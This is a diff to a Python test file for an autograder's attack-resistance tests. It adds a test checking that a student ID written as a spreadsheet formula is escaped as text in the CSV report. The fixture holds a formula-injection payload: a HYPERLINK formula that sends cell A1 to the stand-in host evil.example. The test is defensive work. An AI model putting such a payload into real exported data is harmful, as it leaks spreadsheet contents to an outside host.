@@ -8,6 +8,7 @@ attackers' own output are unchanged, no process survives, and the feedback holds
 secret and no active HTML, and stays small.
 """
 import asyncio
+import csv
 import hashlib
 import html
 import json
@@ -32,7 +33,8 @@ from ninja_autograde.execute import GraderKernelManager
 A = "02_softmax_nll"
 NB = course.ASSIGNMENTS[A]
 ATTACKS = course.REPO / "autograde" / "attacks" / A
-HONEST = ("honest_ada", "honest_grace")
+FORMULA_ID = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"grace")'   # a student id a spreadsheet runs
+HONEST = ("honest_ada", "honest_grace", FORMULA_ID)
 MARKER = "backprop-ninja-attack"   # in the command line of every process an attack starts
 TOKEN = "fake-jupyterhub-api-token-3f9a1c"
 GRADER_LINES = [ln.strip() for ln in (course.REPO / "autograde/ninja_autograde/exercises.py").read_text().splitlines()
@@ -299,6 +301,13 @@ def test_what_reaches_the_instructors_terminal_is_printable(graded):
     assert not [r for r in replayed if r.verdict and r.judged]   # each failed in the visible check, not on hidden data
     shown = replay.show(replayed)
     assert "\\x1b[2K" in shown and not CONTROL.search(shown)
+
+
+def test_a_student_id_that_is_a_formula_is_text_in_the_report(graded, tmp_path):
+    with open(report.write_csv(report.collect(graded[0], A), tmp_path / "report.csv"), newline="") as f:
+        rows = list(csv.reader(f))
+    assert [row[0] for row in rows if "HYPERLINK" in row[0]] == ["'" + FORMULA_ID]
+    assert not [cell for row in rows for cell in row if cell.startswith(report.FORMULA) and not cell[1:].replace(".", "").isdigit()]
 
 
 @pytest.fixture
